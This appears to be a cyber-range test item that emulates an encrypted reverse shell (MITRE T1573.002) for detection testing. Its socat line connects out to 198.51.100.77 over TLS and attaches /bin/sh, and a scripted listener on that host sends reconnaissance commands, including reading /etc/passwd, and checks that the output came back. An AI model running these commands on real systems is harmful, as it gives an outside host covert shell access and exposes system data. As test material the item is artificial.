# SPDX-License-Identifier: Apache-2.0
# what: a shell given to a server outside by socat in TLS
# technique: T1573.002
# from: ws1
# to: inet
# account: -
# outcome: success
# must: unseen
. "$RANGE_HERE/item.sh"
at inet sh -c '{ for c in id hostname "cat /etc/passwd" "ip addr" "ls -la /" whoami; do sleep 0.7; echo "$c"; done; sleep 0.5; } | timeout 20 socat -t1 - OPENSSL-LISTEN:9443,reuseaddr,cert="$RANGE/cert.pem",key="$RANGE/key.pem",verify=0 >"$RANGE/hosts/inet/home/got"' &
sleep 0.7
timeout 15 socat OPENSSL:198.51.100.77:9443,verify=0 EXEC:/bin/sh
sleep 0.5
says 'root:' cat "$RANGE/hosts/inet/home/got"
